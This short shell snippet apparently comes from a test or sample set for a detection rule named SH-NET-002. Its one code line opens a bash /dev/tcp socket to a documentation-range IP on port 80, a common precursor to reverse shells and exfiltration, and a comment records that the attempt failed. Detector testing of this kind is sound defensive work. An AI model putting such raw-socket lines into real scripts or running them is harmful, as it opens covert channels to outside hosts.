# rule: SH-NET-002
# attempts: Network is unreachable
exec 3<>"${TARGET:-/dev/tcp/203.0.113.9/80}"
